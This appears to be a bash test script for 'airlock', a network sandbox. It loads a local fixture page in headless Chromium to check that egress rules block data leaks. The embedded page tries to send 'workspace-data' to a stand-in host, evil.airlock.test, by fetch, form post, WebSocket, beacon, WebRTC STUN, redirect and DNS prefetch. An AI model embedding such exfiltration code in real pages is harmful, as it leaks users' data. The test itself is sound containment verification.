#!/bin/bash
# Browser automation inside `airlock run --enforce` (issue 27): headless
# Chromium (Debian's) loads a page of an allowed origin through
# interception, trusting the session CA (an NSS database made inside the
# sandbox from the bundle airlock put there), once with proxy flags and
# once in transparent mode without them. The page tries to reach a denied
# host every way a page can: fetch (POST), an image, a WebSocket, a
# beacon, a form post and a redirect in iframes, WebRTC (STUN over UDP),
# DNS prefetch and preconnect; and its origin invites QUIC (Alt-Svc h3).
# The "evil" origin logs every connection and datagram it receives: it
# must log none, and the receipts show the blocks. The page still loads.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/proxylib.sh"

if ! command -v chromium > /dev/null || ! command -v certutil > /dev/null; then
	echo "1..0 # SKIP chromium and certutil (libnss3-tools) are needed"
	exit 0
fi

WS="$T/ws"
mkdir -p "$WS"
ip addr add 198.18.0.20/32 dev lo
ip addr add 198.18.0.21/32 dev lo
PL_TLS_NAMES="$PL_TLS_NAMES page.airlock.test evil.airlock.test"
PL_ZONE=$(printf '%s' "$PL_ZONE" | python3 -c '
import json, sys
z = json.load(sys.stdin)
z["page.airlock.test"] = ["198.18.0.20"]
z["evil.airlock.test"] = ["198.18.0.21"]
print(json.dumps(z))')
pl_start_net

# --- the origins ------------------------------------------------------------------
# page.airlock.test:443 (TLS, the test CA's leaf): the page, its form and
# its redirect; UDP :443 logs any QUIC datagram. evil.airlock.test: TCP
# :80 :443 and UDP :443 :3478 log everything that arrives.
cat > "$T/origins.py" <<'PY'
import os, socket, ssl, sys, threading, time
leaf, key, log, ready = sys.argv[1:5]
lock = threading.Lock()

def note(line):
    with lock, open(log, "a") as f:
        f.write(line + "\n")

PAGE = b"""<!doctype html><html><head><title>airlock page</title>
<link rel="dns-prefetch" href="//evil.airlock.test">
<link rel="preconnect" href="https://evil.airlock.test">
</head><body><p id="own">page-ok</p><div id="status">loading</div>
<img src="https://evil.airlock.test/img.png" onerror="r('img','error')" onload="r('img','loaded')">
<img src="http://evil.airlock.test/img-plain.png">
<iframe src="/form.html"></iframe><iframe src="/redirect"></iframe>
<script>
var results = {};
function r(k, v) { results[k] = v; }
fetch("https://evil.airlock.test/fetch", {method: "POST", body: "workspace-data", mode: "no-cors"})
  .then(function () { r("fetch", "sent"); }, function () { r("fetch", "error"); });
try { var ws = new WebSocket("wss://evil.airlock.test/ws");
      ws.onopen = function () { r("ws", "open"); }; ws.onerror = function () { r("ws", "error"); };
} catch (e) { r("ws", "throw"); }
try { navigator.sendBeacon("https://evil.airlock.test/beacon", "x"); } catch (e) {}
try { var pc = new RTCPeerConnection({iceServers: [{urls: "stun:evil.airlock.test:3478"},
                                                   {urls: "stun:198.18.0.21:3478"}]});
      pc.createDataChannel("x");
      pc.onicecandidate = function (e) { if (e.candidate) r("ice", "candidate"); };
      pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
} catch (e) { r("rtc", "throw"); }
fetch("/second").then(function (x) { return x.text(); }).then(function (t) { r("own", t); });
setTimeout(function () {
  document.getElementById("status").textContent = "done " + JSON.stringify(results);
}, 4000);
</script></body></html>"""
FORM = (b"<!doctype html><form method=POST action='https://evil.airlock.test/post'>"
        b"<input name=a value=workspace-data></form><script>document.forms[0].submit()</script>")

def answer(c, status, ctype, body, extra=b""):
    c.sendall(b"HTTP/1.1 " + status + b"\r\nContent-Type: " + ctype +
              b"\r\nAlt-Svc: h3=\":443\"; ma=86400\r\n" + extra +
              b"Content-Length: %d\r\n\r\n" % len(body) + body)

def page_conn(c, peer):
    try:
        f = c.makefile("rb")
        while True:
            line = f.readline()
            if not line:
                return
            while f.readline() not in (b"\r\n", b""):
                pass
            path = line.split(b" ")[1]
            note("page %s" % path.decode())
            if path == b"/":
                answer(c, b"200 OK", b"text/html", PAGE)
            elif path == b"/form.html":
                answer(c, b"200 OK", b"text/html", FORM)
            elif path == b"/redirect":
                answer(c, b"302 Found", b"text/plain", b"",
                       b"Location: https://evil.airlock.test/redirected\r\n")
            elif path == b"/second":
                answer(c, b"200 OK", b"text/plain", b"second-ok")
            else:
                answer(c, b"404 Not Found", b"text/plain", b"")
    except (OSError, ssl.SSLError):
        pass
    finally:
        c.close()

def tls_loop(addr, port, ctx, fn):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, port))
    s.listen(64)
    def loop():
        while True:
            c, peer = s.accept()
            def one(c=c, peer=peer):
                try:
                    t = ctx.wrap_socket(c, server_side=True)
                except (OSError, ssl.SSLError):
                    c.close()
                    return
                fn(t, peer)
            threading.Thread(target=one, daemon=True).start()
    threading.Thread(target=loop, daemon=True).start()

def evil_tcp(port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("198.18.0.21", port))
    s.listen(64)
    def loop():
        while True:
            c, peer = s.accept()
            note("evil tcp %d from %s:%d" % (port, peer[0], peer[1]))
            c.close()
    threading.Thread(target=loop, daemon=True).start()

def udp(addr, port, who):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, port))
    def loop():
        while True:
            _, peer = s.recvfrom(65535)
            note("%s udp %d from %s:%d" % (who, port, peer[0], peer[1]))
    threading.Thread(target=loop, daemon=True).start()

ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(leaf, key)
tls_loop("198.18.0.20", 443, ctx, page_conn)
udp("198.18.0.20", 443, "page-quic")
evil_tcp(80)
evil_tcp(443)
udp("198.18.0.21", 443, "evil")
udp("198.18.0.21", 3478, "evil")
open(ready, "w").write("ready\n")
time.sleep(300)
PY
: > "$T/origins.log"
python3 "$T/origins.py" "$T/tls/leaf.pem" "$T/tls/leaf.key" "$T/origins.log" "$T/origins.ready" &
PL_EXTRA_PIDS="$PL_EXTRA_PIDS $!"
wait_grep "$T/origins.ready" ready 20
ok $? "the page origin and the evil origin are up"

# Control: the evil origin does log what reaches it (so "nothing logged"
# below means nothing arrived, not a deaf recorder).
curl -s -m 5 -k --resolve evil.airlock.test:443:198.18.0.21 https://evil.airlock.test/ > /dev/null
python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("198.18.0.21", 3478))'
wait_grep "$T/origins.log" 'evil tcp 443' 5 && wait_grep "$T/origins.log" 'evil udp 3478' 5
ok $? "control: a direct connection and a datagram to the evil origin are logged"
: > "$T/origins.log"

# --- the agent: Chromium, trusting the session CA -----------------------------------------
# The session CA is the certificate of the bundle ($SSL_CERT_FILE) whose
# subject names "airlock session CA"; Chromium reads trust from NSS.
cat > "$WS/browse.sh" <<'SH'
set -e
out=$1
shift
mkdir -p "$HOME/.pki/nssdb"
certutil -d "sql:$HOME/.pki/nssdb" -N --empty-password
python3 - "$SSL_CERT_FILE" "$HOME/session-ca.pem" <<'PY'
import ssl, sys, tempfile
blocks = open(sys.argv[1]).read().split("-----BEGIN CERTIFICATE-----")[1:]
for b in blocks:
    pem = "-----BEGIN CERTIFICATE-----" + b.split("-----END CERTIFICATE-----")[0] + "-----END CERTIFICATE-----\n"
    with tempfile.NamedTemporaryFile("w", suffix=".pem") as t:
        t.write(pem)
        t.flush()
        subj = ssl._ssl._test_decode_cert(t.name)["subject"]
    if any(v.startswith("airlock session CA") for rdn in subj for k, v in rdn):
        open(sys.argv[2], "w").write(pem)
        break
else:
    sys.exit("no session CA in the bundle")
PY
certutil -d "sql:$HOME/.pki/nssdb" -A -t "C,," -n "airlock session CA" -i "$HOME/session-ca.pem"
# No --ignore-certificate-errors: the page loads only if the session CA
# is trusted. --no-sandbox: Chromium's own sandbox needs namespaces, which
# airlock's seccomp filter refuses to the agent.
timeout -k 5 150 chromium --headless --no-sandbox --disable-gpu --no-first-run \
	--user-data-dir="$HOME/chromium" --virtual-time-budget=10000 \
	"$@" --dump-dom https://page.airlock.test/ > "$out" 2> "$out.err" || true
SH

policy() {
	cat > "$T/policy.json" <<EOF
{"version": 1, "mode": "enforce",
 "egress": {"allow": ["page.airlock.test"${2:-}], "intercept": ["page.airlock.test"],
            "allow_ranges": ["198.18.0.0/15"], "resolver": ["$PL_RESOLVER"],
            "upstream_ca": "$CA", "transparent": $1},
 "env": {"pass": ["PATH", "LANG", "HOME"]}}
EOF
}

# browse MODE [CHROMIUM FLAGS]: one session; the DOM in $T/MODE.html, the
# receipts in $T/MODE.jsonl.
browse() {
	mode=$1
	shift
	"$AIRLOCK" run --policy "$T/policy.json" --events "$T/$mode.jsonl" --workspace "$WS" \
		--quiet -- sh browse.sh "$WS/$mode.html" "$@" > "$T/$mode.out" 2>&1
}

check_mode() {
	mode=$1
	dom=$(cat "$WS/$mode.html" 2>/dev/null)
	like "$dom" 'id="own">page-ok<' "$mode: the allowed page loads through interception (session CA trusted)"
	[ -n "$dom" ] || { diag_file "$T/$mode.out"; diag_file "$WS/$mode.html.err"; }
	like "$dom" 'done \{.*"own":"second-ok"' "$mode: the page's own fetch works and its script ran to the end"
	grep -q '"type":"http.request".*"path":"/",.*"host":"page.airlock.test".*"status":200' "$T/$mode.jsonl"
	ok $? "$mode: the page's request is recorded by interception (http.request, status 200)"
	grep -q '"type":"http.request".*"path":"/redirect",.*"host":"page.airlock.test".*"status":302' "$T/$mode.jsonl"
	ok $? "$mode: the redirect to the evil host was answered (302) and recorded"
	grep -q '"decision":"block".*"evil.airlock.test' "$T/$mode.jsonl"
	ok $? "$mode: the receipts show blocks for evil.airlock.test"
	is "$(grep -c 'evil' "$T/origins.log")" 0 \
		"$mode: the evil origin received nothing: no fetch, image, WebSocket, beacon, form post, redirect, STUN or preconnect"
	grep 'evil' "$T/origins.log" | head -n 5 | sed 's/^/#   /' >&2
	is "$(grep -c 'page-quic' "$T/origins.log")" 0 "$mode: no QUIC datagram reached the page's origin (Alt-Svc h3 offered)"
	"$AIRLOCK" verify "$T/$mode.jsonl" > /dev/null
	ok $? "$mode: the stream verifies"
}

# --- with proxy flags --------------------------------------------------------------------------
policy false
browse proxy --proxy-server=http://127.0.0.1:3128
check_mode proxy
grep -Eq '"type":"egress.block".*"rule":"egress.default".*"host":"evil.airlock.test"|"type":"egress.block".*"host":"evil.airlock.test".*"rule":"egress.default"' "$T/proxy.jsonl"
ok $? "proxy: egress.block receipts name evil.airlock.test and the default deny"
: > "$T/origins.log"

# --- control: the same page with the evil host allowed reaches it ------------------------
# (so "the evil origin received nothing" above is the policy's doing, not a
# page that never tried)
policy false ', "evil.airlock.test"'
browse control --proxy-server=http://127.0.0.1:3128
n=$(grep -c 'evil tcp 443' "$T/origins.log")
ok $([ "$n" -ge 3 ]; echo $?) "control: with evil.airlock.test allowed, the page reaches it ($n connections)"
: > "$T/origins.log"

# --- transparent mode, no proxy flags --------------------------------------------------------
if "$AIRLOCK" doctor | grep -q '"transparent":true'; then
	policy true
	browse transparent --no-proxy-server
	check_mode transparent
	grep -q '"type":"dns.block".*"host":"evil.airlock.test"' "$T/transparent.jsonl"
	ok $? "transparent: Chromium's own DNS lookups (prefetch included) of the evil host are refused (dns.block)"
else
	ok 0 "# SKIP transparent mode: this host cannot do it (airlock doctor)"
fi

done_testing
